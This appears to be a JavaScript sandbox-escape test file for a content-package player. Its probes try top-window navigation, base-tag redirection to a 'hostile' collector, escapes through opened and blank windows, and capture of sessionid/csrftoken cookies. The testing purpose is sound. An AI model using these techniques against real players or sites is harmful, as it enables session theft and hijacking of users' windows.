// The whole window, and windows of the package's own.

const top_ = (name, attempt) => probe("windows", name, "lead the whole window away", attempt);

top_("top.location", (name) => void (top.location = mark(name)));
top_("top.location.replace", (name) => top.location.replace(mark(name)));
top_("parent.location.href", (name) => void (parent.location.href = mark(name)));
top_("top to a script", () => void (top.location = "javascript:window.evilTop=true"));
top_("open in _top", (name) => void open(mark(name), "_top"));
top_("open in _parent", (name) => void open(mark(name), "_parent"));
top_("link to _top", (name) => add("a", { href: mark(name), target: "_top" }).click());
top_("base target", async (name) => {
  const base = add("base", { target: "_top" }, document.head);
  add("a", { href: mark(name) }).click();
  await pause(300);
  base.remove();
});
top_("base address", async (name) => {
  const base = add("base", { href: `${hostile.context.collector}/` }, document.head);
  add("img", { src: `hit?probe=${name}` });
  await pause(300);
  base.remove();
});
top_("form to _top", (name) => {
  const form = add("form", { action: location.pathname, target: "_top" });
  add("input", { name: "probe", value: name }, form);
  form.submit();
});

for (const file of ["page.html", "page.svg", "page.xhtml", "page.xml"]) {
  probe("windows", `alone ${file}`, "open a file of the package by itself and attack from there", async (name, context) => {
    localStorage.setItem("alone", JSON.stringify(context));
    const opened = open(new URL(file, location.href).href, `alone${file}`);
    for (let n = 0; n < 20 && !localStorage.getItem(name); n += 1) await pause(100);
    opened?.close();
    const told = JSON.parse(localStorage.getItem(name));
    if (!told) return "";
    return !told.sandboxed ? "ran in a window without a sandbox" : /sessionid|csrftoken/.test(told.cookie) && told.cookie;
  });
}
probe("windows", "window opened by the player", "have the player's link open a free window", async () => {
  const link = add("a", { href: new URL("page.html", location.href).href, target: "freed", rel: "opener" }, parent.document.body);
  localStorage.removeItem("alone page.html");
  link.click();
  for (let n = 0; n < 20 && !localStorage.getItem("alone page.html"); n += 1) await pause(100);
  const told = JSON.parse(localStorage.getItem("alone page.html"));
  return told && !told.sandboxed && "ran in a window without a sandbox";
});
probe("windows", "blank window", "write a page into a window and leave the sandbox", async (name) => {
  const opened = open("", "blank");
  opened.document.write(`<script>fetch(${JSON.stringify(mark(name))}, {mode: "no-cors"})</script>`);
  await pause(500);
  let free = true;
  try {
    opened.document.domain = opened.document.domain;
  } catch {
    free = false;
  }
  opened.close();
  return free && "a window without a sandbox";
});
